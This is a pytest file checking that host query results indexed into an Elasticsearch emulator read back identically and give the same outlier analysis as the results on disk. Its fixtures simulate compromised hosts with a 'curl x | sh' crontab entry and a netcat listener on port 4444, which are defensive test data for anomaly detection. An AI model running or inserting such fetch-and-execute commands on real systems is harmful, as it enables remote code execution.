"""Reading runs back from the Elasticsearch store (osmem-server EMULATOR, see tests/es_emulator.py):
the loader's dataclasses come back equal to the ones read from disk, and the analysis of the stored
run is the same JSON as the analysis of the directory."""

from __future__ import annotations

import json
from dataclasses import asdict, fields
from pathlib import Path
from typing import Any

import pytest
from runbuilder import build_run, fleet, rehash

from diffy_analysis.analyze.pipeline import analyze
from diffy_analysis.errors import ResultsError
from diffy_analysis.load import HostData, open_results
from diffy_analysis.store.bulk import BulkSettings
from diffy_analysis.store.indexer import index_results
from diffy_analysis.store.mapping import IndexNames
from diffy_analysis.store.readback import EsResults, latest_run_id

pytest_plugins = ["es_emulator"]

FAST = BulkSettings(chunk_size=500, max_retries=2, initial_backoff=0.01, refresh=True)


def host_view(host: HostData) -> dict[str, Any]:
    """Everything the analysis can see of a host, except where its files live."""
    return {
        "run_id": host.ref.run.run_id,
        "host_id": host.ref.host_id,
        "label": host.label,
        "identity": asdict(host.identity),
        "queries": {k: asdict(v) for k, v in host.queries.items()},
        "query_order": list(host.queries),
        "rows": host.rows,
        "row_order": list(host.rows),
        "notes": host.notes,
        "digests": host.digests,
    }


def run_view(results: Any) -> dict[str, Any]:
    return {
        "run_ids": results.run_ids,
        "app": results.app,
        "runs": [
            {f.name: getattr(r, f.name) for f in fields(r) if f.name not in ("path", "files", "source")}
            for r in results.runs
        ],
        "refs": [(r.run.run_id, r.host_id, r.label) for r in results.refs],
    }


DOTTED_TAGS = {"k8s.io/role": "web", "a.b": "c", "a": "d"}  # keys some servers rewrite in _source


def tricky_run(root: Path) -> Path:
    """A small run with every case read-back must preserve."""
    base = {
        "listening_ports": [
            {"protocol": "6", "address": "0.0.0.0", "port": "22", "name": "sshd", "pid": "812"}
        ],
        "users": [{"username": "root", "uid": "0"}, {"username": "app", "uid": "1000"}],
        "crontab": [],  # collected, and empty
    }
    hosts = fleet(
        5, base, extra={"web-003": {"listening_ports": [{"port": "4444", "name": "nc", "pid": "7"}]}}
    )
    hosts["web-002"]["users"].append({"username": "app", "uid": "1000"})  # a duplicate row
    hosts["web-004"]["odd"] = [{"a.b": "x", "z": "1", "m": "2"}]  # odd column name, key order z-before-m
    hosts["web-005"]["users"] = '[{"username": "r\\u00e9mi", "uid": 7, "shell": null}]'
    run = build_run(
        root,
        hosts,
        statuses={"web-008": "unreachable", "web-000": "failed"},
        query_status={"web-001": {"processes": "timeout"}},
        identities={"web-001": {"cloud": {"provider": "aws", "tags": DOTTED_TAGS}}},
        raw_files={
            "web-005": {"users": b'[{"username": "r\\u00e9mi", "uid": 7, "shell": null}]'},
            "web-002": {"crontab": b'[{"command": "caf\xe9 \xff"}]'},  # invalid UTF-8: replaced, noted
        },
    )
    # A host whose file is broken after collection: skipped by the loader with a reason.
    (run / "hosts" / "web-004" / "users.json").write_text("[{")
    rehash(run)
    return run


@pytest.fixture
def names(es_settings) -> IndexNames:
    return IndexNames(es_settings.index_prefix)


def test_hosts_read_back_equal_the_hosts_read_from_disk(tmp_path, es_client, names):
    run = tricky_run(tmp_path)
    outcome = index_results(es_client, names, open_results([run]), bulk=FAST)
    assert outcome.report.ok, outcome.report.reasons

    disk = open_results([run])
    stored = EsResults(es_client, names, ["20261129T101500Z-a1b2c3"], page_size=3)  # small pages: paging
    assert run_view(stored) == run_view(disk)
    disk_hosts = [host_view(h) for h in disk.iter_hosts()]
    stored_hosts = [host_view(h) for h in stored.iter_hosts()]
    assert [h["host_id"] for h in stored_hosts] == ["web-001", "web-002", "web-003", "web-005"]
    assert stored_hosts == disk_hosts
    assert [asdict(s) for s in stored.skipped] == [asdict(s) for s in disk.skipped]
    assert {s.host_id: s.status for s in stored.skipped} == {
        "web-000": "failed",
        "web-008": "unreachable",
        "web-004": "invalid",
    }
    web2 = next(h for h in stored_hosts if h["host_id"] == "web-002")
    assert web2["notes"] and "U+FFFD" in web2["notes"][0]
    assert web2["rows"]["crontab"][0]["command"].startswith("caf\ufffd")


def test_rereading_one_host_for_evidence(tmp_path, es_client, names):
    run = tricky_run(tmp_path)
    index_results(es_client, names, open_results([run]), bulk=FAST)
    stored = EsResults(es_client, names, ["20261129T101500Z-a1b2c3"])
    ref = next(r for r in stored.refs if r.host_id == "web-003")
    again = stored.read_host(ref, queries={"listening_ports"})  # the HostSource re-reads its own hosts
    disk = open_results([run])
    disk_ref = next(r for r in disk.refs if r.host_id == "web-003")
    assert again.rows == disk.read_host(disk_ref, queries={"listening_ports"}).rows


def test_incompletely_indexed_host_is_skipped_with_a_reason(tmp_path, es_client, names):
    run = tricky_run(tmp_path)
    index_results(es_client, names, open_results([run]), bulk=FAST)
    es_client.delete_by_query(
        index=names.rows("users"), query={"term": {"host.id": "web-003"}}, refresh=True, conflicts="proceed"
    )
    stored = EsResults(es_client, names, ["20261129T101500Z-a1b2c3"])
    assert "web-003" not in [h.ref.host_id for h in stored.iter_hosts()]
    reason = next(s.reason for s in stored.skipped if s.host_id == "web-003")
    assert "holds 0 of the 2 rows of users" in reason


def test_unknown_run_and_latest_run_of_an_app(tmp_path, es_client, names):
    run = tricky_run(tmp_path)
    index_results(es_client, names, open_results([run]), bulk=FAST)
    with pytest.raises(ResultsError, match="not found"):
        EsResults(es_client, names, ["20990101T000000Z-nope00"])
    other = build_run(
        tmp_path / "b", fleet(2, {"users": [{"username": "root"}]}), run_id="20261130T000000Z-bbbbbb"
    )
    index_results(es_client, names, open_results([other]), bulk=FAST)
    assert latest_run_id(es_client, names, "app_x") == "20261130T000000Z-bbbbbb"
    with pytest.raises(ResultsError, match="no run of app"):
        latest_run_id(es_client, names, "app_y")


@pytest.mark.parametrize("method", ["peers", "baseline"])
def test_analysis_of_the_stored_run_equals_analysis_from_disk(indexed_fleet, method):
    fleet = indexed_fleet.fleet
    baseline = str(fleet.baseline_dir) if method == "baseline" else None
    from_disk = analyze([fleet.run_dir], baseline=baseline, method=method)
    assert from_disk.outliers, "the generated fleet has compromised hosts"
    assert from_disk.skipped, "and an unreachable host"

    stored = EsResults(indexed_fleet.client, IndexNames("fleet"), [indexed_fleet.run_id])
    from_es = analyze((), results=stored, baseline=baseline, method=method)
    assert json.dumps(from_es.to_json(), sort_keys=True) == json.dumps(from_disk.to_json(), sort_keys=True)
    # The evidence shown is the rows as collected (pids, real names), read back from Elasticsearch.
    raw = [f for h in from_es.outliers for f in h.findings if f.kind != "missing"]
    assert raw and all(set(f.row) >= {"pid"} for f in raw if f.query == "processes")


def test_hostile_rows_survive_indexing_and_read_back(tmp_path, es_client, names):
    """Values and column names a compromised host could produce: very long values (beyond what a
    keyword indexes), control characters, 600 columns, names with dots, spaces and unicode."""
    wide = {f"c{i}": str(i) for i in range(600)}
    odd = {"a.b": "1", "a": "2", "with space": "3", "ünï": "4", "x" * 300: "5"}
    long_value = {"cmdline": "A" * 40_000 + "\x00\x1b[31m\u202e", "name": "evil"}
    hosts = fleet(2, {"users": [{"username": "root", "uid": "0"}]})
    hosts["web-001"]["processes"] = [long_value, wide, odd]
    run = build_run(tmp_path, hosts)
    outcome = index_results(es_client, names, open_results([run]), bulk=FAST)
    assert outcome.report.ok, outcome.report.reasons
    assert len(outcome.unmapped_columns[names.rows("processes")]) >= 100  # over the 500-column cap

    disk = [host_view(h) for h in open_results([run]).iter_hosts()]
    stored = [host_view(h) for h in EsResults(es_client, names, ["20261129T101500Z-a1b2c3"]).iter_hosts()]
    assert stored == disk
    assert list(stored[0]["rows"]["processes"][1]) == list(wide)  # column order too


def test_two_stored_runs_analysed_together(tmp_path, es_client, names):
    base = {"users": [{"username": "root", "uid": "0"}], "crontab": [{"command": "backup", "minute": "5"}]}
    evil = {"crontab": [{"command": "curl x | sh", "minute": "*"}]}
    run_a = build_run(
        tmp_path / "a", fleet(6, base, extra={"web-002": evil}), run_id="20261129T101500Z-aaaaaa"
    )
    run_b = build_run(tmp_path / "b", fleet(6, base, prefix="db-"), run_id="20261129T111500Z-bbbbbb")
    for run in (run_a, run_b):
        assert index_results(es_client, names, open_results([run]), bulk=FAST).report.ok
    from_disk = analyze([run_a, run_b])
    stored = EsResults(es_client, names, ["20261129T101500Z-aaaaaa", "20261129T111500Z-bbbbbb"])
    from_es = analyze((), results=stored)
    assert from_es.to_json() == from_disk.to_json()
    assert [h.host for h in from_es.outliers] == ["web-002"]


def test_text_filter_applies_as_when_reading_files(tmp_path, es_client, names):
    """Normalization masks identity while reading (a text filter); the store's reader honours it."""
    from diffy_analysis.normalize import FleetIndex, default_config

    hosts = fleet(3, {"users": [{"username": "root", "uid": "0"}]})
    for host_id, queries in hosts.items():  # each host's own name in its /etc/hosts: masked
        queries["etc_hosts"] = [{"address": "127.0.1.1", "hostnames": f"{host_id} {host_id}.internal"}]
    run = build_run(tmp_path, hosts)
    index_results(es_client, names, open_results([run]), bulk=FAST)
    mask = FleetIndex(config=default_config()).mask_text
    disk = [(h.ref.host_id, h.rows, h.filtered) for h in open_results([run]).iter_hosts(text_filter=mask)]
    stored = EsResults(es_client, names, ["20261129T101500Z-a1b2c3"]).iter_hosts(text_filter=mask)
    assert [(h.ref.host_id, h.rows, h.filtered) for h in stored] == disk
    assert all(filtered == {"etc_hosts"} for _, _, filtered in disk)
